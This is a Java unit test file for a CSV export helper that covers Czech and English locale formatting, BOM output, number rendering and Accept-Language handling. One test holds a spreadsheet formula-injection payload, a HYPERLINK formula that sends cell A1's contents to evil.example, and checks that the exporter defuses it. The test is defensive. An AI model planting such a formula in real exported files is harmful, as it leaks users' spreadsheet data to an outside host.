package org.learningledger.query.csv;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class CsvRecordsTest {

    @Test
    void givenCzechLocale_whenExported_thenSemicolonsAndBom() {
        String file = CsvRecords.header(List.of("team_id", "team_name"), CsvStyle.CZECH)
                + CsvRecords.of(Arrays.asList("t1", "Tým Ústí, sever", null), CsvStyle.CZECH);

        assertThat(file).startsWith(CsvStyle.BOM + "team_id;team_name\r\n").endsWith("t1;Tým Ústí, sever;\r\n");
    }

    @Test
    void givenEnglishLocale_whenExported_thenCommasAndBom() {
        assertThat(CsvRecords.header(List.of("a", "b"), CsvStyle.ENGLISH)).isEqualTo("\uFEFFa,b\r\n");
        assertThat(CsvRecords.of(Arrays.asList("x,y", 2))).isEqualTo("\"x,y\",2\r\n");
    }

    @Test
    void givenCzechLocale_whenANumberIsExported_thenDecimalCommaAndNoExponentNorGrouping() {
        assertThat(CsvRecords.of(Arrays.asList(new BigDecimal("12.50"), new BigDecimal("1E+3"), -3.25, 1234567L),
                CsvStyle.CZECH)).isEqualTo("12,50;1000;-3,25;1234567\r\n");
        assertThat(CsvRecords.of(Arrays.asList(new BigDecimal("12.50"), -3.25), CsvStyle.ENGLISH))
                .isEqualTo("12.50,-3.25\r\n");
    }

    @Test
    void givenCzechLocale_whenATextHoldsASemicolonOrLooksLikeAFormula_thenQuotedAndDefused() throws IOException {
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1;\"klik\")";
        String record = CsvRecords.of(List.of("a;b", formula, "-2+3", "@SUM(A1)"), CsvStyle.CZECH);

        CSVRecord read = CSVFormat.RFC4180.builder().setDelimiter(';').get().parse(new StringReader(record))
                .getRecords().get(0);
        assertThat(read.toList()).containsExactly("a;b", "'" + formula, "'-2+3", "'@SUM(A1)");
    }

    @Test
    void givenAcceptLanguage_whenChoosingTheStyle_thenCzechOnlyWhereCzechIsPreferredAndTheParameterWins() {
        assertThat(CsvStyle.of(null, "cs-CZ,cs;q=0.9,en;q=0.8")).isEqualTo(CsvStyle.CZECH);
        assertThat(CsvStyle.of(null, "sk,cs;q=0.8,en;q=0.5")).isEqualTo(CsvStyle.CZECH);
        assertThat(CsvStyle.of(null, "en-GB,en;q=0.9,cs;q=0.8")).isEqualTo(CsvStyle.ENGLISH);
        assertThat(CsvStyle.of(null, "de")).isEqualTo(CsvStyle.ENGLISH);
        assertThat(CsvStyle.of(null, null)).isEqualTo(CsvStyle.ENGLISH);
        assertThat(CsvStyle.of(null, ";;q=x")).isEqualTo(CsvStyle.ENGLISH);
        assertThat(CsvStyle.of("en", "cs")).isEqualTo(CsvStyle.ENGLISH);
        assertThat(CsvStyle.of("CS", "en")).isEqualTo(CsvStyle.CZECH);
    }

    @Test
    void givenAnUnknownLocaleParameter_whenChoosingTheStyle_thenRefusedNamingTheParameter() {
        assertThatThrownBy(() -> CsvStyle.of("de", null)).isInstanceOf(UnknownLocaleException.class)
                .satisfies(e -> assertThat(((UnknownLocaleException) e).getBody().getProperties().toString())
                        .contains("field=locale"));
    }
}
